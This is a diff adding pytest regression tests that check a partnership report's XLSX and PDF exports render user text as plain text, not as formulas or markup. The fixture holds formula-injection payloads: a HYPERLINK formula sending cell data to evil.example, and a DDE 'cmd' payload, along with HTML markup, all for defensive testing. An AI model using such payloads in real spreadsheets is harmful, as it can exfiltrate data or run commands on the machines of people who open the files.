@@ -75,3 +75,58 @@ def test_the_workbook_opens_with_the_kpi_sheet_first(report):
     assert rows[0][:4] == ("KPI", "Unit", "Target", "Achieved")
     assert rows[1][:4] == ("Agreements", "MoU", 10, 2)
     assert "Members" in workbook.sheetnames and "Action plan" in workbook.sheetnames
+
+
+# --- user text is shown as written, never run (finding 7) --------------------------------
+
+HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'
+
+
+@pytest.fixture
+def hostile_report(world):
+    """Every user text of the report starts like a formula or holds markup."""
+    partnership = world.partnership
+    partnership.name = '<a href="https://evil.example/">Alpine</a> <b'
+    partnership.save()
+    world.member_company.name = HOSTILE
+    world.member_company.save()
+    ActionFactory(partnership=partnership, title="+SUM(1,2)", lead=world.member_company)
+    ActionFactory(partnership=partnership, title="@cmd|' /C calc'!A0", lead=world.cluster)
+    ManualKpiFactory(partnership=partnership, name="-2+3", unit="=1+1", target=10)
+    ManualKpiFactory(partnership=partnership, name="\tTabbed <i>", unit="\rCR")
+    ManualKpiFactory(partnership=partnership, name="Bell\x07 and ESC\x1b <font size=90>")
+    return build_report(partnership, TODAY)
+
+
+def test_the_workbook_writes_user_text_as_text_not_as_formulas(hostile_report):
+    workbook = load_workbook(io.BytesIO(report_xlsx(hostile_report)))
+    texts = []
+    for sheet in workbook.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    texts.append(cell.value)
+    assert not [t for t in texts if t.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert "'" + HOSTILE in texts
+    assert "'+SUM(1,2)" in texts and "'-2+3" in texts and "'=1+1" in texts
+    assert "'\tTabbed <i>" in texts
+    # Figures stay numbers.
+    kpis = list(workbook["KPIs against targets"].iter_rows(values_only=True))
+    assert kpis[1][2] == 10
+
+
+def test_the_pdf_shows_markup_in_names_as_written(hostile_report, world):
+    content = report_pdf(hostile_report)
+    # The drawn text, without the spaces that the layout puts between pieces of a line.
+    text = re.sub(r"\s+", "", pdf_text(content))
+    assert '<ahref="https://evil.example/">Alpine</a><b:partnershipreport' in text
+    assert "BellandESC<fontsize=90>" in text and "Tabbed<i>" in text
+    assert b"/Annot" not in content and b"/URI" not in content  # no link was made
+
+
+def test_the_report_files_of_a_partnership_named_with_markup_are_served(hostile_report, world):
+    client = world.client(world.partnership_manager)
+    for name in ("report.pdf", "report.xlsx", "report/"):
+        response = client.get(f"/plans/{world.partnership.slug}/{name}")
+        assert response.status_code == 200, name
